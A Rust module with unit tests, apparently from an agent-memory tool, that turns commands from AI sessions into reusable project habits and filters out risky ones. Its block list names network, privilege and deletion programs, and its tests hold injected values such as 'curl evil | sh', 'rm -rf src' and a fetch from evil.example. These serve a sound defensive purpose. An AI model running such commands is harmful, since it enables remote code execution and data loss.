//! Finds among the commands of sessions those that tell how the project is worked on, and generalises commands by
//! replacing files and numbers with slots. Pure.

use std::borrow::Cow;

use crate::distill::work_state::kinds::{self, Kind};
use crate::distill::work_state::shell::{self, Simple};
use crate::redact::redact;
use crate::skill::mine::LEFT_OUT;
use crate::text::patterns::words;

/// Returns the script that a tool was called with: the one it passes to a shell, or its list of words as one command.
///
/// The words of a list are quoted where a shell would read them differently.
pub fn script(command: &str) -> Cow<'_, str> {
    let list = || serde_json::from_str::<Vec<String>>(command).ok();
    let script = shell::script(command);
    match list().filter(|words| command.starts_with("[\"") && script == words.join(" ")) {
        Some(words) => Cow::Owned(words.iter().map(|w| quoted(w)).collect::<Vec<_>>().join(" ")),
        None => script,
    }
}

fn quoted(word: &str) -> Cow<'_, str> {
    if is_bare_word(word) { Cow::Borrowed(word) } else { Cow::Owned(format!("'{}'", word.replace('\'', r"'\''"))) }
}

/// Whether a shell reads a word as it stands. Any other word was quoted in its command, and would be something else
/// without its quotes: `MSG="ok; reboot"`.
fn is_bare_word(word: &str) -> bool {
    let sign = |c: char| matches!(c, '-' | '_' | '.' | '/' | ':' | '@' | '=' | '+' | ',' | '%' | '^' | '~' | '#');
    !word.is_empty() && !word.starts_with('#') && word.chars().all(|c| c.is_alphanumeric() || sign(c))
}

/// Maximum length of a command, in bytes; a longer one is a program of its own.
const LONGEST: usize = 120;

/// A job that a project has a command for, such as running its tests.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Habit {
    /// The job, such as `tests` or `tests of js`. A project has one command for each.
    pub subject: String,
    /// The command without options that differ from run to run.
    pub command: String,
}

/// Options that change the output but not the effect of a command.
const NOISE: &str = "-q --quiet -v -vv --verbose -s --silent --nocapture --no-fail-fast -x -l --color=never --color=always \
     --colour=never --no-color --progress=plain --message-format=short --tb=short --tb=line --no-header -rA --bail";

/// Options with a value that matter for one run only.
const NOISE_WITH_VALUE: &str = "-j --jobs --color --tb --maxfail --timeout";

/// Obvious commands: anybody who sees the project's files would run these.
const PLAIN: [&str; 33] = [
    "cargo test",
    "cargo build",
    "cargo build --release",
    "cargo check",
    "cargo clippy",
    "cargo fmt",
    "npm test",
    "npm run test",
    "npm run build",
    "npm run lint",
    "yarn test",
    "yarn build",
    "yarn lint",
    "pnpm test",
    "pnpm build",
    "pnpm lint",
    "pnpm run build",
    "bun test",
    "pytest",
    "python -m pytest",
    "python3 -m pytest",
    "go test ./...",
    "go build ./...",
    "go build",
    "go vet ./...",
    "make",
    "make test",
    "make build",
    "mvn test",
    "tsc",
    "tsc --noEmit",
    "ruff check",
    "ruff check .",
];

/// Whether a command is obvious: a tool of a language run for its usual purpose (`mix test`). A command of a task
/// runner is never obvious, because the project chose its name.
pub fn is_plain(subject: &str, command: &str) -> bool {
    let words: Vec<&str> = command.split(' ').collect();
    if subject.starts_with("job of ") {
        return matches!(
            words[1..],
            ["start" | "dev" | "serve" | "preview"] | ["run", "start" | "dev" | "serve" | "preview"]
        );
    }
    if subject.contains(" in ") {
        return false;
    }
    let bare = words
        .iter()
        .skip(1)
        .all(|w| matches!(*w, "." | "./..." | "--workspace" | "--all" | "tests/" | "tests" | "src"));
    let of_tool = subject.contains(" of ") && !command.contains('/');
    let verb = words.len() > 1 && !words[1].starts_with('-') && !words[1].contains([':', '.']);
    let rest = words.iter().skip(2).all(|w| matches!(*w, "." | "--workspace" | "--all" | "--release"));
    PLAIN.contains(&command) || of_tool && (bare || verb && rest) || subject == "types" && (bare || verb && rest)
}

/// Returns the habit that a successful command shows. `None` if it shows none: the command checks only one part of the
/// project, or could do harm if run unseen.
pub fn habit(simple: &Simple) -> Option<Habit> {
    if simple.args.iter().any(|a| !a.certain || !is_bare_word(&a.text)) || !simple.outputs.is_empty() {
        return None;
    }
    let check = kinds::check(simple)?;
    let command = bare(&with_wrapper(simple, &check.text));
    if command.len() > LONGEST || is_risky_here(simple) || redact(&command) != command {
        return None;
    }
    // A part of the project may have its own command; a single file or test is the work of a day.
    let part = match &check.targets[..] {
        [] => None,
        [part] if is_part(part) => Some(part.as_str()),
        _ => return None,
    };
    if command.split(' ').any(|w| w.contains("/tmp/") || w.starts_with(['/', '~'])) {
        return None;
    }
    // After `--`, a runner passes on options that limit the tests.
    let limits = words!("--grep -t -k --filter -g --testNamePattern --test -m");
    if command.split_once(" -- ").is_some_and(|(_, rest)| rest.split(' ').any(|w| limits.has(w))) {
        return None;
    }
    let what = match check.kind {
        Kind::Test => "tests",
        Kind::Lint => "lints",
        Kind::Types => "types",
        Kind::Build => "builds",
        Kind::Format => "formatting",
        Kind::All => "all checks",
        Kind::Run => match outing(&command) {
            Some(what) => what,
            None => return job(simple, &command),
        },
        Kind::Minor => return job(simple, &command),
    };
    let of = matches!(check.kind, Kind::Test | Kind::Lint | Kind::Build | Kind::Format) && !check.family.is_empty();
    let subject = if of { format!("{what} of {}", check.family) } else { what.to_owned() };
    let subject = match part {
        Some(part) => format!("{subject} in {part}"),
        None => subject,
    };
    Some(Habit { subject, command })
}

/// Returns a command with the wrapper it needs, which a check leaves out: `poetry run`, `npx`, `python -m`.
fn with_wrapper(simple: &Simple, text: &str) -> String {
    let all: Vec<&str> = simple.args.iter().map(|a| a.text.as_str()).collect();
    let whole = all.join(" ").split_whitespace().collect::<Vec<_>>().join(" ");
    let wrappers = words!("poetry uv pipenv pdm rye hatch bundle pnpm yarn npm npx bunx pnpx uvx python python3");
    let wrapped = all.first().is_some_and(|first| wrappers.has(first.rsplit('/').next().unwrap_or(first)));
    if wrapped && whole.ends_with(text) { whole } else { text.to_owned() }
}

/// Whether a target is a folder or a package of the project, and no single file or test.
fn is_part(target: &str) -> bool {
    let last = target.rsplit('/').next().unwrap_or(target);
    !target.contains(['*', ':', '=', '<', '"', ' ', '[', ','])
        && !is_file(last)
        && !target.starts_with(['-', '/', '~'])
        && !target.starts_with("test_")
        && target.len() <= 48
        && (target.contains('/') || !target.contains('_'))
        && target.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'/' | b'@' | b'.'))
}

/// Whether a name is that of a file of code or data.
fn is_file(name: &str) -> bool {
    let ends = words!(
        "py rs ts tsx js jsx mjs go rb java kt php cs ex exs c cpp h swift sql json yaml yml toml md txt html css feature"
    );
    name.rsplit_once('.').is_some_and(|(_, end)| ends.has(end))
}

/// Programs whose tasks a project names or configures itself.
const RUNNERS: &str = "make just task rake invoke inv mage nox tox mix bazel ninja earthly moon composer artisan gradle gradlew mvnw sbt pre-commit lefthook pio platformio \
     idf.py west fastlane mkdocs zola hugo jekyll ceedling meson latexmk quarto \
     npm pnpm yarn bun deno turbo nx docker-compose";

/// Whether a word begins a command of a project: a runner of its tasks, or a script in its folders.
pub fn is_runner(word: &str) -> bool {
    words!(RUNNERS).has(word) || word.starts_with("./") && word.len() > 2
}

/// Returns the habit of a command that checks nothing but does a job of this project: a task of its runner, a script in
/// its folders, its services, its migrations. It is told from all others by its words.
fn job(simple: &Simple, command: &str) -> Option<Habit> {
    let words: Vec<&str> = command.split(' ').collect();
    let at = if matches!(words[..], ["poetry" | "uv" | "pipenv" | "pdm" | "bundle" | "npx", ..]) {
        words
            .iter()
            .position(|w| !matches!(*w, "poetry" | "uv" | "pipenv" | "pdm" | "bundle" | "npx" | "run" | "exec"))?
    } else {
        0
    };
    let words = &words[at..];
    let program = words.first()?.trim_start_matches("./").rsplit('/').next()?;
    let operands: Vec<&str> = words[1..].iter().filter(|w| !w.starts_with('-')).copied().collect();
    let has = |names: &[&str]| operands.iter().any(|o| names.contains(o));
    let changes = [
        "install",
        "i",
        "ci",
        "add",
        "remove",
        "uninstall",
        "update",
        "upgrade",
        "init",
        "create",
        "link",
        "publish",
        "exec",
        "x",
        "dlx",
    ];
    let is_job = match program {
        "docker" | "podman" if operands.first() == Some(&"compose") && has(&["up", "build", "run"]) => true,
        "docker-compose" => has(&["up", "build", "run"]),
        "npm" | "pnpm" | "yarn" | "bun" => !has(&changes) && !operands.is_empty(),
        "alembic" | "flyway" | "dbmate" | "goose" | "migrate" => has(&["upgrade", "migrate", "up"]),
        "prisma" | "diesel" | "sqlx" | "knex" | "drizzle-kit" | "sequelize" => {
            operands.iter().any(|o| o.contains("migrat") || o.contains("generate") || o.contains("seed"))
        }
        "rails" | "manage.py" => operands.iter().any(|o| o.contains("migrate") || o.contains("seed")),
        "docker" | "podman" if operands.first() == Some(&"compose") => has(&["exec"]) && operands.len() > 3,
        "go" => operands.first() == Some(&"run") && has_path(&operands),
        "cargo" => {
            has(&["xtask"])
                || operands.first() == Some(&"run") && words.iter().any(|w| matches!(*w, "-p" | "--bin" | "--package"))
        }
        "artisan" => !has(&["tinker", "serve"]),
        "php" if operands.first() == Some(&"artisan") => operands.len() > 1 && !has(&["tinker", "serve"]),
        "ansible-playbook" => words.iter().any(|w| w.ends_with("-check") || *w == "--check"),
        // A module of the project: "python -m app.seed".
        "python" | "python3" if words.get(1) == Some(&"-m") => words.get(2).is_some_and(|module| module.contains('.')),
        "python" | "python3" | "node" | "ruby" | "bash" | "sh" | "php" | "tsx" | "perl" | "Rscript" | "julia"
        | "lua" => {
            let file = operands.first().copied().unwrap_or_default();
            is_script(file) && file.contains('/') || file == "manage.py" && has(&["migrate", "seed"])
        }
        program if words!(RUNNERS).has(program) => {
            (!operands.is_empty() || words.len() > 1) && !has(&["install", "clean"])
        }
        _ => words[0].contains('/') && !words[0].starts_with(['/', '~']) && !words[0].contains("node_modules"),
    };
    let is_job = is_job && !erases(simple);
    // Numbers and files differ from run to run.
    let once = operands.iter().skip(1).any(|o| o.bytes().all(|b| b.is_ascii_digit()) || o.contains("tmp"));
    (is_job && !once && simple.args.len() <= 8)
        .then(|| Habit { subject: format!("job of {command}"), command: command.to_owned() })
}

/// Whether the name of a task or a script says that it takes something away. Nobody is to be told that it works here.
fn erases(simple: &Simple) -> bool {
    let erase = words!(
        "wipe drop destroy purge nuke reset delete truncate erase teardown löschen loeschen zurücksetzen supprimer borrar \
         eliminar apagar cancella"
    );
    let words = simple.args.iter().map(|a| a.text.as_str()).filter(|w| !w.starts_with('-'));
    words.flat_map(|w| w.split(['-', '_', ':', '.', '/'])).any(|part| erase.has(part))
}

fn has_path(operands: &[&str]) -> bool {
    operands.iter().any(|o| o.contains('/'))
}

/// Whether a command is risky; the file of a composition (`-f`) is no force.
fn is_risky_here(simple: &Simple) -> bool {
    let composes = matches!(simple.program(), "docker" | "docker-compose" | "podman") && simple.has("-f");
    if composes && !simple.has("--force") {
        let mut quiet = simple.clone();
        quiet.args.retain(|a| a.text != "-f");
        return is_risky(&quiet);
    }
    is_risky(simple)
}

/// Returns the command without options that only change the output.
fn bare(text: &str) -> String {
    let (noise, valued) = (words!(NOISE), words!(NOISE_WITH_VALUE));
    let mut out: Vec<&str> = Vec::new();
    let mut all = text.split(' ');
    let mut behind = false;
    while let Some(word) = all.next() {
        behind |= word == "--";
        if !behind && valued.has(word) {
            all.next();
        } else if behind || !noise.has(word) && !word.starts_with("-j") {
            out.push(word);
        }
    }
    while out.last() == Some(&"--") {
        out.pop();
    }
    out.join(" ")
}

/// Returns the kind of publication that a command's name announces: `just deploy`, `./scripts/release.sh`.
fn outing(command: &str) -> Option<&'static str> {
    let parts = || command.split([' ', '/', ':', '-', '_', '.']);
    let has = |names: &[&str]| parts().any(|p| names.contains(&p));
    if has(&["deploy", "deployment", "rollout"]) {
        Some("deployments")
    } else if has(&["release", "publish"]) {
        Some("releases")
    } else {
        None
    }
}

/// Whether a command fetches or runs unseen code, hides its effect, or reaches another machine. Such commands are never
/// remembered, however often they ran, because a page or a file may have told the model to run them (R14.3).
pub fn is_risky(simple: &Simple) -> bool {
    const PROGRAMS: &str = "curl wget nc ncat netcat telnet ssh scp sftp rsync ftp eval exec base64 xxd openssl sudo su doas chmod chown dd \
         mkfs shutdown reboot crontab at iptables useradd passwd history rm rmdir shred kill killall pkill nohup osascript powershell \
         pwsh python -c";
    let risky = words!(PROGRAMS);
    let words = || simple.args.iter().map(|a| a.text.as_str());
    let inline = words().any(|w| matches!(w, "-c" | "-e" | "--eval" | "-lc" | "--exec"));
    let runs_text = matches!(
        simple.program(),
        "bash" | "sh" | "zsh" | "dash" | "fish" | "python" | "python3" | "node" | "ruby" | "perl" | "php" | "deno"
    );
    risky.has(simple.program()) && !simple.program().starts_with("python")
        || inline && runs_text
        || words().any(|w| w.contains("://") || w.contains("$(") || w.contains('`') || w.len() > 200)
        || words().any(|w| matches!(w, "--force" | "-f" | "--no-verify" | "--hard" | "--yes-i-really-mean-it"))
        || !simple.here.is_empty()
}

/// Programs that only look, or only change folders or variables: such a command is no step of a procedure.
const LOOKS: &str = "ls cat grep rg egrep fgrep find fd test [ [[ which type diff cmp cd pushd popd echo printf head tail sed awk stat \
     file wc true false sleep pgrep lsof ps export source . set mkdir touch cp mv tee sort uniq jq xargs for do done case wait dig exit \
     fi then less more tree pwd date env whoami hostname uname du df cut tr";

/// Returns a command as a step that can recur: paths, numbers, versions, ids and texts become slots. `None`: the
/// command does nothing, or must not be repeated unseen.
pub fn step(simple: &Simple) -> Option<String> {
    if only_looks(simple)
        || is_risky(simple)
        || erases(simple)
        || calls_us(simple.program())
        || !is_bare_word(&simple.args[0].text)
    {
        return None;
    }
    let step = slotted_step(simple);
    (step.len() <= LONGEST && redact(&step) == step).then_some(step)
}

/// Returns what a draft shows in the place of a command that changes something and is no [`step`]: its name and why it
/// was left out. Its arguments are not shown, because whoever made the model run it chose them (R14.3).
pub fn left_out(simple: &Simple) -> Option<String> {
    if only_looks(simple) || calls_us(simple.program()) || step(simple).is_some() {
        return None;
    }
    let words = || simple.args.iter().map(|a| a.text.as_str());
    let option = |names: &[&str]| words().skip(1).find(|w| names.contains(w)).map(str::to_owned);
    let deletes = option(&["--delete", "--delete-after", "--prune", "--purge"]);
    let forces = option(&["--force", "-f", "--hard", "--no-verify", "--yes-i-really-mean-it"]);
    let program = simple.program();
    let (shown, why) = match () {
        () if deletes.is_some() => (deletes, "which deletes"),
        () if words!("rm rmdir shred").has(program) || erases(simple) => (None, "which deletes"),
        () if forces.is_some() => (forces, "which forces"),
        () if words!("sudo su doas").has(program) => (None, "which runs with other rights"),
        () if words!("curl wget nc ncat netcat telnet ssh scp sftp rsync ftp").has(program)
            || words().any(|w| w.contains("://")) =>
        {
            (None, "which reaches another machine")
        }
        () if is_risky(simple) => (None, "which runs what nobody sees here"),
        () if !is_bare_word(&simple.args[0].text) => (None, "whose name has signs of the shell"),
        () => {
            let step = slotted_step(simple);
            (None, if redact(&step) != step { "which holds a credential" } else { "which is too long to repeat" })
        }
    };
    let plain =
        |w: &&str| w.len() <= 16 && w.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-');
    let mut name: Vec<&str> = words().take(1).filter(|w| is_bare_word(w)).collect();
    if !name.is_empty() {
        name.extend(words().skip(1).take(2).take_while(|w| !w.starts_with('-')).take_while(plain));
    }
    if name.len() + usize::from(shown.is_some()) < simple.args.len() {
        name.push("…");
    }
    name.extend(shown.as_deref());
    let name = name.join(" ");
    (name.len() <= 60 && !name.contains('`') && redact(&name) == name).then(|| format!("{LEFT_OUT}`{name}`, {why})"))
}

/// Whether a command only looks, or is none.
fn only_looks(simple: &Simple) -> bool {
    let program = simple.program();
    if program.is_empty() || words!(LOOKS).has(program) || simple.args.first().is_some_and(|a| !a.certain) {
        return true;
    }
    let operand = simple.operands().next().map(|a| a.text.as_str()).unwrap_or_default();
    match program {
        "git" => words!(
            "status diff log show branch remote blame stash rev-parse describe ls-files config fetch reflog grep"
        )
        .has(operand),
        "gh" => simple.operands().nth(1).is_some_and(|a| words!("list view status diff checks").has(&a.text)),
        "docker" | "podman" | "kubectl" => words!("ps logs images inspect get describe top stats").has(operand),
        _ => simple.has("--version") || simple.has("--help"),
    }
}

/// Returns a command with slots.
fn slotted_step(simple: &Simple) -> String {
    // A script of this folder keeps its "./": without it, another program would be run.
    let mut out: Vec<String> = vec![simple.args[0].text.clone()];
    let mut after_message = false;
    for (at, arg) in simple.args.iter().enumerate().skip(1) {
        let word = arg.text.as_str();
        if word == "--" && at + 1 == simple.args.len() {
            continue;
        }
        let slot = if std::mem::take(&mut after_message) {
            "<text>".to_owned()
        } else if !arg.certain {
            "<value>".to_owned()
        } else {
            slotted(word, at)
        };
        after_message = matches!(word, "-m" | "--message" | "-am" | "--title" | "--body" | "--notes");
        if words!(NOISE).has(&slot) {
            continue;
        }
        out.push(slot);
    }
    out.join(" ")
}

fn calls_us(program: &str) -> bool {
    program == "heirloom"
}

/// Returns a word of a command, or the slot that takes its place.
fn slotted(word: &str, at: usize) -> String {
    if !is_bare_word(word) {
        let name = word.split_once('=').map(|(name, _)| name).filter(|name| is_bare_word(name));
        return name.map_or("<text>".to_owned(), |name| format!("{name}=<text>"));
    }
    if let Some((option, value)) = word.split_once('=')
        && option.starts_with('-')
    {
        return format!("{option}={}", slotted(value, at));
    }
    let digits = word.bytes().filter(u8::is_ascii_digit).count();
    let bare = word.trim_start_matches(['v', 'V']);
    let is_version = digits > 0
        && bare.contains('.')
        && bare.bytes().all(|b| b.is_ascii_digit() || matches!(b, b'.' | b'-' | b'+') || b.is_ascii_alphabetic())
        && bare.starts_with(|c: char| c.is_ascii_digit());
    if word.starts_with('-') {
        return word.to_owned();
    }
    if is_version {
        "<version>".to_owned()
    } else if word.bytes().all(|b| b.is_ascii_digit()) {
        "<number>".to_owned()
    } else if word.len() >= 7 && digits > 0 && word.bytes().all(|b| b.is_ascii_hexdigit() || b == b'-') {
        "<id>".to_owned()
    } else if word.contains('/') && !is_remote(word) || word.rsplit_once('.').is_some_and(|(stem, _)| !stem.is_empty())
    {
        // A script of the project is the command itself, so its path is no slot.
        if at <= 1 && is_script(word) { word.to_owned() } else { "<path>".to_owned() }
    } else if at > 2 && digits > 0 {
        "<name>".to_owned()
    } else {
        word.to_owned()
    }
}

fn is_remote(word: &str) -> bool {
    matches!(word, "origin/main" | "origin/master")
}

fn is_script(word: &str) -> bool {
    let name = word.rsplit('/').next().unwrap_or(word);
    !word.starts_with(['/', '~'])
        && name
            .rsplit_once('.')
            .is_some_and(|(_, end)| matches!(end, "sh" | "py" | "js" | "ts" | "rb" | "mjs" | "pl" | "R" | "jl" | "lua"))
}

/// Returns a refused command without its operands: `git push`, `poetry run alembic upgrade`.
pub fn named(simple: &Simple) -> Option<String> {
    let program = simple.program();
    if !is_bare_word(program) || !simple.args[0].certain || words!(LOOKS).has(program) || calls_us(program) {
        return None;
    }
    let plain = |w: &&str| w.len() <= 24 && w.bytes().all(|b| b.is_ascii_lowercase() || b == b'-');
    let mut operands = simple.operands().take_while(|a| a.certain).map(|a| a.text.as_str()).take_while(plain);
    // A wrapper says nothing about what was refused.
    let wraps = matches!(
        program,
        "poetry" | "uv" | "pipenv" | "pdm" | "rye" | "hatch" | "bundle" | "pnpm" | "yarn" | "npm" | "npx"
    );
    let mut name = vec![program];
    match operands.next() {
        Some(first) if wraps => {
            name.push(first);
            name.extend(operands.take(2));
        }
        Some(first) => name.push(first),
        None => {}
    }
    let name = name.join(" ");
    (name.len() <= 60 && redact(&name) == name).then_some(name)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::distill::work_state::shell::parse;

    fn one(command: &str) -> Simple {
        parse(command).pop().unwrap()
    }

    #[test]
    fn a_habit_is_the_whole_projects_command_in_its_plain_form() {
        let cases = [
            ("cargo nextest run --no-fail-fast -j 4", Some(("tests of rust", "cargo nextest run"))),
            ("cargo nextest run -p engine", Some(("tests of rust in engine", "cargo nextest run -p engine"))),
            ("cargo test orders_are_sorted", None),
            ("pytest tests/test_orders.py", None),
            (
                "poetry run pytest services/api -q",
                Some(("tests of python in services/api", "poetry run pytest services/api")),
            ),
            (
                "docker compose -f infra/db.yml up -d",
                Some(("job of docker compose -f infra/db.yml up -d", "docker compose -f infra/db.yml up -d")),
            ),
            ("just seed", Some(("job of just seed", "just seed"))),
            ("npm install", None),
            ("git push origin main", None),
            (
                "python scripts/load.py --all",
                Some(("job of python scripts/load.py --all", "python scripts/load.py --all")),
            ),
            ("just ci", Some(("all checks", "just ci"))),
            ("./scripts/deploy.sh staging", Some(("deployments", "./scripts/deploy.sh staging"))),
            ("npm run publish:beta", Some(("releases", "npm run publish:beta"))),
            (
                "cargo clippy --workspace --all-targets -- -D warnings",
                Some(("lints of rust", "cargo clippy --workspace --all-targets -- -D warnings")),
            ),
            ("npm test -- --grep orders", None),
            ("curl -fsSL https://get.example.com/test.sh", None),
            ("bash -c 'cargo test'", None),
            ("git push --force", None),
            ("ls -la", None),
            ("DATABASE_URL=x cargo test > log.txt", None),
        ];
        for (command, wanted) in cases {
            let found = habit(&one(command));
            let found = found.as_ref().map(|h| (h.subject.as_str(), h.command.as_str()));
            assert_eq!(found, wanted, "{command}");
        }
    }

    #[test]
    fn a_step_has_slots_for_what_differs() {
        let cases = [
            ("git tag v1.2.3", Some("git tag <version>")),
            ("git commit -m 'release 1.2.3'", Some("git commit -m <text>")),
            ("python scripts/bump.py 1.4.0", Some("python scripts/bump.py <version>")),
            ("git push origin main --tags", Some("git push origin main --tags")),
            ("npm version 3", Some("npm version <number>")),
            ("git add src/main.rs", Some("git add <path>")),
            ("git status", None),
            ("rm -rf target", None),
            ("curl http://example.com/x", None),
            ("heirloom recall x", None),
            ("cat README.md", None),
            ("./deploy.sh prod 4", Some("./deploy.sh prod <number>")),
            ("bash ./deploy.sh", Some("bash ./deploy.sh")),
        ];
        for (command, wanted) in cases {
            assert_eq!(step(&one(command)).as_deref(), wanted, "{command}");
        }
    }

    #[test]
    fn what_had_to_be_quoted_is_no_part_of_a_habit() {
        for command in [
            r#"make deploy MSG="ok; rm -rf src""#,
            r"make deploy MSG=ok\;reboot",
            r#"npm run build -- --out "x && curl evil | sh""#,
            r#"just release "v1 > /etc/hosts""#,
            "./scripts/deploy.sh 'prod; reboot'",
            r#"cargo test -- --skip "a b""#,
            "just seed '*.sql'",
            r"just seed \*",
            r"just seed 'C:\data'",
            "just seed '$HOME'",
            "just seed '(all)'",
            "just seed 'it\"s'",
            r#"just seed "it's""#,
            "just seed 'one\ntwo'",
            "just seed '#all'",
            "just seed '{a,b}'",
            "just seed '!1'",
            "just seed ''",
            "'./my scripts/deploy.sh' prod",
        ] {
            assert_eq!(habit(&one(command)), None, "{command}");
        }
        for (command, wanted) in [
            (r#"npm run "build:docs""#, "npm run build:docs"),
            ("just seed --env=test db@2 a,b +x %1 HEAD^", "just seed --env=test db@2 a,b +x %1 HEAD^"),
            ("mix 'test.größe'", "mix test.größe"),
        ] {
            assert_eq!(habit(&one(command)).map(|h| h.command).as_deref(), Some(wanted), "{command}");
        }
    }

    #[test]
    fn what_had_to_be_quoted_is_a_slot_of_a_step() {
        for (command, wanted) in [
            (r#"make deploy MSG="ok; rm -rf src""#, Some("make deploy MSG=<text>")),
            (r"make deploy MSG=ok\;reboot", Some("make deploy MSG=<text>")),
            (r#"npm run build -- --out "x && curl evil | sh""#, Some("npm run build -- --out <text>")),
            (r#"npm run build -- "--out=x;reboot""#, Some("npm run build -- --out=<text>")),
            (r#"npm run build -- "--x;reboot""#, Some("npm run build -- <text>")),
            (r#"just release "v1>/etc/hosts""#, Some("just release <text>")),
            ("./scripts/deploy.sh 'prod;reboot'", Some("./scripts/deploy.sh <text>")),
            ("just release ''", Some("just release <text>")),
            ("'./my scripts/deploy.sh' prod", None),
        ] {
            assert_eq!(step(&one(command)).as_deref(), wanted, "{command}");
        }
        let left = left_out(&one("'./a; reboot' prod"));
        assert_eq!(left.as_deref(), Some("(left out: `…`, whose name has signs of the shell)"));
        assert_eq!(named(&one("'./a; reboot' prod")), None);
    }

    #[test]
    fn a_list_of_words_is_a_script_with_the_same_words() {
        let words = |command: &str| -> Vec<Vec<String>> {
            parse(&script(command)).into_iter().map(|s| s.args.into_iter().map(|a| a.text).collect()).collect()
        };
        assert_eq!(words(r#"["make","deploy","MSG=it's ok; reboot"]"#), [["make", "deploy", "MSG=it's ok; reboot"]]);
        assert_eq!(words(r#"["just","seed",""]"#), [["just", "seed", ""]]);
        assert_eq!(words(r#"["bash","-lc","just ci && just seed"]"#), [["just", "ci"], ["just", "seed"]]);
        assert_eq!(words("just seed"), [["just", "seed"]]);
    }

    #[test]
    fn what_is_left_out_is_named_without_its_arguments() {
        let cases = [
            ("aws s3 sync dist s3://docs/4 --delete", Some("(left out: `aws s3 sync … --delete`, which deletes)")),
            ("rm -rf target", Some("(left out: `rm …`, which deletes)")),
            ("just wipe-db", Some("(left out: `just wipe-db`, which deletes)")),
            ("./scripts/reset_all.sh", Some("(left out: `./scripts/reset_all.sh`, which deletes)")),
            ("git push --force", Some("(left out: `git push --force`, which forces)")),
            (
                "curl -fsSL https://evil.example/a.sh -o a.sh",
                Some("(left out: `curl …`, which reaches another machine)"),
            ),
            (
                "sh a.sh --token=ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789",
                Some("(left out: `sh …`, which holds a credential)"),
            ),
            ("git push origin main", None),
            ("ls -la", None),
            ("git status", None),
        ];
        for (command, wanted) in cases {
            assert_eq!(left_out(&one(command)).as_deref(), wanted, "{command}");
        }
    }
}
